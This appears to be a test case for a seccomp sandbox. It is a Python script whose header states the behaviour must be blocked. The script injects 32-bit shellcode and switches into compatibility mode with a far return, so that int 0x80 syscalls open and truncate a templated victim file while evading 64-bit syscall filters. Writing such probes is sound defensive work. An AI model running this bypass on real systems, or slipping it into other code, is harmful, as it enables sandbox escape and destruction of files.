# MUST NOT: enter the 32-bit mode by a far return, where calls have other numbers
# CHECK: canary unchanged; next call answered
# SOFT: 2
# LAYER: seccomp

import ctypes
import os
import struct

if os.uname().machine != "x86_64":
    raise SystemExit("this machine has no such mode")
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
page = LIBC.mmap(0x20000000, 8192, 7, 0x32, -1, 0)
path = b"{{VICTIM_FILE}}\0"
ctypes.memmove(page + 0x800, path, len(path))
# open(path, O_WRONLY | O_TRUNC); then write(fd, path, 8); hlt
old = b"\xb8\x05\0\0\0\xbb" + struct.pack("<I", page + 0x800) + b"\xb9\x01\x02\0\0\xcd\x80\x89\xc3\xb8\x04\0\0\0\xb9"
old += struct.pack("<I", page + 0x800) + b"\xba\x08\0\0\0\xcd\x80\xf4"
ctypes.memmove(page + 0x100, old, len(old))
# push 0x23; push old; retf
new = b"\x6a\x23\x68" + struct.pack("<I", page + 0x100) + b"\x48\xcb"
ctypes.memmove(page, new, len(new))
ctypes.CFUNCTYPE(None)(page)()
